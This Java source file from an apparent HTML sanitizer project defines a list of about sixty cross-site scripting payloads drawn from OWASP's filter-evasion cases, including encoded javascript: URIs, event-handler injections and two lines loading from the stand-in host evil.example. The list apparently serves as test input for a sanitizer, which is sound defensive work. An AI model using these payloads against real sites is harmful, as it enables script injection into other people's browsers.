package io.github.articlecleaner.article;

import java.util.List;

/** Ways into a page that are known from filters that failed (OWASP's list of them, in our words). */
public final class WaysIn {

    private static final List<String> ALL = List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<IMG SRC=`javascript:alert(1)`>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src=/ onload=alert(1)//",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img srcset='javascript:alert(1) 1x'>",
                "<img data-src='javascript:alert(1)'>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href='jav&#x09;ascript:alert(1)'>x</a>",
                "<a href='jav\nascript:alert(1)'>x</a>",
                "<a href=' &#14; javascript:alert(1)'>x</a>",
                "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
                "<a href='javascript&colon;alert(1)'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='feed:javascript:alert(1)'>x</a>",
                "<a href='//evil.example' onmouseover=alert(1)>x</a>",
                "<a href='https://evil.example/\" onclick=\"alert(1)'>x</a>",
                "<base href='javascript:alert(1)//'><a href='x'>x</a>",
                "<svg onload=alert(1)><text>x</text></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
                "<body onload=alert(1)>x",
                "<body background='javascript:alert(1)'>x",
                "<iframe src=javascript:alert(1)>x</iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='javascript:alert(1)'>x</object><embed src='javascript:alert(1)'>",
                "<form action='javascript:alert(1)'><input type=submit><button formaction='javascript:alert(1)'>x</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<link rel=stylesheet href='javascript:alert(1)'>",
                "<style>@import 'javascript:alert(1)';</style>",
                "<div style='background:url(javascript:alert(1))'>x</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td><td>y</td></tr></table>",
                "<p lang='\"><script>alert(1)</script>'>x</p>",
                "<p dir='rtl\" onclick=\"alert(1)'>x</p>",
                "<ol start='1\" onclick=\"alert(1)'><li>x</li></ol>",
                "<img src=a.png alt='\"><script>alert(1)</script>'>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<template><script>alert(1)</script></template>",
                "<!--><script>alert(1)</script-->",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><script>alert(1)</script>",
                "<textarea></textarea><script>alert(1)</script>",
                "<title><img src=x onerror=alert(1)></title>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<pre><code><script>alert(1)</script>&lt;img src=x onerror=alert(1)&gt;</code></pre>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<x-y onclick=alert(1)>x</x-y>",
                "<a\u0000 href='javascript:alert(1)'>x</a>",
                "<p>\u2028<a href='\u0001javascript:alert(1)'>x</a></p>");

    private WaysIn() {}

    /** Html that would run something in the browser of a reader. */
    public static List<String> all() {
        return ALL;
    }
}
